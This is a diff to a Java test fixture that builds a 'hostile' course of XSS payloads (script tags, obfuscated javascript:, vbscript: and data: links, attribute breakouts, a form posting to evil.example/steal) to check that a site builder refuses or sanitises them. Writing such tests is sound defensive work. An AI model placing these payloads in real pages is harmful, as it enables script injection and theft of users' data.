@@ -22,6 +22,12 @@ public final class HostileCourse {
     /** Raw HTML that authors may paste into a lesson body, by case name (the lesson slug). */
     public static final Map<String, String> RAW_HTML = new LinkedHashMap<>();
 
+    /**
+     * Raw HTML links whose URL the checks refuse (issue 16: raw HTML gets markdown's link checks), so a
+     * course holding one never builds; {@code Hostile_RawHtmlCheckTest} holds each to its error.
+     */
+    public static final Map<String, String> REFUSED_RAW_HTML = new LinkedHashMap<>();
+
     static {
         String js = "alert(1);console.log('" + MARK + "')";
         RAW_HTML.put("script", "<script>" + js + "</script>");
@@ -31,12 +37,12 @@ public final class HostileCourse {
         RAW_HTML.put("base-href", "<base href=\"https://evil.example/\">");
         RAW_HTML.put("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + js + "\">");
         RAW_HTML.put("form-action", "<form action=\"https://evil.example/steal\"><input name=a><button>Go</button></form>");
-        RAW_HTML.put("href-javascript", "<a href=\"javascript:" + js + "\">click</a>");
-        RAW_HTML.put("href-mixed-case", "<a href=\"JaVaScRiPt:" + js + "\">click</a>");
-        RAW_HTML.put("href-entity", "<a href=\"java&#115;cript:" + js + "\">click</a>");
-        RAW_HTML.put("href-control-char", "<a href=\"&#1;javascript:" + js + "\">click</a>");
-        RAW_HTML.put("href-data-html", "<a href=\"data:text/html,<script>" + js + "</script>\">click</a>");
-        RAW_HTML.put("href-vbscript", "<a href=\"vbscript:msgbox(1)\">click</a>");
+        REFUSED_RAW_HTML.put("href-javascript", "<a href=\"javascript:" + js + "\">click</a>");
+        REFUSED_RAW_HTML.put("href-mixed-case", "<a href=\"JaVaScRiPt:" + js + "\">click</a>");
+        REFUSED_RAW_HTML.put("href-entity", "<a href=\"java&#115;cript:" + js + "\">click</a>");
+        REFUSED_RAW_HTML.put("href-control-char", "<a href=\"&#1;javascript:" + js + "\">click</a>");
+        REFUSED_RAW_HTML.put("href-data-html", "<a href=\"data:text/html,<script>" + js + "</script>\">click</a>");
+        REFUSED_RAW_HTML.put("href-vbscript", "<a href=\"vbscript:msgbox(1)\">click</a>");
         RAW_HTML.put("title-breakout", "<p><abbr title='x\" onmouseover=\"alert(1)\" y=\"'>hover</abbr></p>");
         RAW_HTML.put("link-title-breakout", "[click](01-fields.md \"x\\\" onmouseover=\\\"" + js + "\") ![img](01-fields.md \"y\\\" onerror=\\\"" + js + "\")");
         RAW_HTML.put("object-embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">");
@@ -69,6 +75,8 @@ public final class HostileCourse {
                     .append("---\ntitle: Case ").append(e.getKey()).append("\nsummary: S\n---\nBefore\n\n")
                     .append(e.getValue()).append("\n\nAfter\n");
         }
+        // The file the img-onerror case names, so that case is about its onerror and not a missing image.
+        spec.append("-- content/01-intro/x --\nnot an image\n");
         spec.append("-- quizzes/q.yaml --\n")
                 .append("id: q\ntitle: ").append(t).append("\nintro: ").append(t).append("\nshuffle: false\nquestions:\n")
                 .append("  - id: q-single\n    type: single\n    prompt: ").append(t).append("\n    explanation: ").append(t)
